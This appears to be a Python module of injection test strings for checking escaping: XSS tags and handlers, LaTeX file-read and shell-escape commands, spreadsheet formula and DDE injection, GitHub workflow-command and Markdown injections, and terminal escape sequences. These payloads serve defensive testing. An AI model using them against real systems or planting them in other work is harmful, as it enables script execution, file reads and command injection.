"""Words with which others have made pages run what they should only show."""

_RUN = "window.pwned=1"
_TAGS = [
    "<script>{run}</script>", "<ScRiPt>{run}</sCrIpT>", "<script/src=data:,{run}></script>", "<script>{run}//",
    "<img src=x onerror={run}>", "<img src=x onerror='{run}'", "<svg onload={run}>", "<svg/onload={run}//",
    "<body onload={run}>", "<iframe srcdoc='<script>parent.{run}</script>'>", "<iframe src=javascript:{run}>",
    "<object data=javascript:{run}>", "<embed src=javascript:{run}>", "<a href=javascript:{run}>x</a>",
    "<details open ontoggle={run}>", "<video><source onerror={run}>", "<audio src=x onerror={run}>",
    "<input autofocus onfocus={run}>", "<select autofocus onfocus={run}>", "<marquee onstart={run}>",
    "<math><mtext><script>{run}</script>", "<style>@import 'data:text/css,x'</style><script>{run}</script>",
    "<link rel=stylesheet href=data:,x onload={run}>", "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href=javascript:{run}//>", "<form action=javascript:{run}><input type=submit autofocus>",
    "<button formaction=javascript:{run}>x", "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><script>{run}</script>'>", "<textarea></textarea><script>{run}</script>",
]  # fmt: skip
_ENDS = ['"', "'", '">', "'>", "-->", "]]>", "</title>", "</script>", "</style>", "</textarea>", "</td></table>", "\\"]
_ENDS += ["</code></pre>", "&quot;&gt;", "&#34;&#62;", "%22%3E"]
_OTHERS = [
    "javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", "data:text/html,<script>{run}</script>",
    "{{{{ 7*7 }}}}", "{{% include '/etc/passwd' %}}", "${{{run}}}", "`${{{run}}}`", "'-({run})-'", '";{run};"',
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e", "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "\u202e<script>{run}</script>", "\x1b]0;<script>{run}</script>\x07",
]  # fmt: skip
PAYLOADS = tuple(text.format(run=_RUN) for text in _TAGS + _OTHERS) + tuple(
    f"{end}<img src=x onerror={_RUN}>" for end in _ENDS
)
TEX = (
    r"\input{/etc/passwd}", r"\immediate\write18{touch pwned}", r"\input{|touch pwned}", r"\openout0=pwned \write0{x}",
    r"}\input{pwned}{", r"$\input{pwned}$", r"$$\frac{", "$", "$x", r"\$", r"\(\input{pwned}\)", r"\end{pgfpicture}",
    r"^^5cinput{pwned}", "^^M", "%\n\\input{pwned}", "% comment", "#1", "&", "~", "_a^b", "{", "}", "\\", "\\\\",
    r"\catcode`\^=7 ^^5cinput{pwned}", r"\csname input\endcsname{pwned}", r"\def\a{\a}\a", r"\begin{verbatim}",
    "\x0c\\par", r"$\mathdefault{\input{pwned}}$", r"$\mathdefault{10^{3}}\input{pwned}$", "a\u2028\\input{pwned}",
)  # fmt: skip
"""Words with which LaTeX reads and writes files, or ends."""
FORMULAS = (
    "=1+1", "+1", "-1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1", "\r=1", " =1", "\u200b=1", "\uff1d1", '"=1', "=1\n=2",
    '=HYPERLINK("http://evil.example")', "\x1b[0m=1", "\u202e=1",
)  # fmt: skip
"""Words that a spreadsheet takes for a formula."""
COMMANDS = (
    "::error::x", "::set-output name=a::b", "##[error]x", "::stop-commands::x", "a\n::error::x", "a\r::error::x",
    "%0A::error::x", "a\u2028::error::x", "::error title=a,b:c::x", "a\x0b::error::x", "a\x85::error::x",
)  # fmt: skip
"""Words that GitHub takes for commands."""
MARKS = (
    "[x](javascript:window.pwned=1)", "![x](http://evil.example/x.png)", "<http://evil.example>", "@someone", "#1",
    "| x | y", "`` ` ``", "`x", "```\n<img src=x onerror=window.pwned=1>", "a\n\n# b", "</details>", "<!-- ", "\\`<b>`",
    "https://evil.example",
)  # fmt: skip
"""Words that Markdown takes for links, mentions, pictures and HTML."""
SEQUENCES = (
    "\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "\x1b]52;c;cHduZWQ=\x07",
    "\x9b2J", "\x1bc", "\x08\x08", "a\rb", "\u202eevil", "\u2066x\u2069", "\x1bP1$r\x1b\\", "\ud800", "\ufeff",
    "\x00", "\x7f",
)  # fmt: skip
"""Words that control a terminal or turn the direction of a text."""
ALL = (*PAYLOADS, *TEX, *FORMULAS, *COMMANDS, *MARKS, *SEQUENCES)
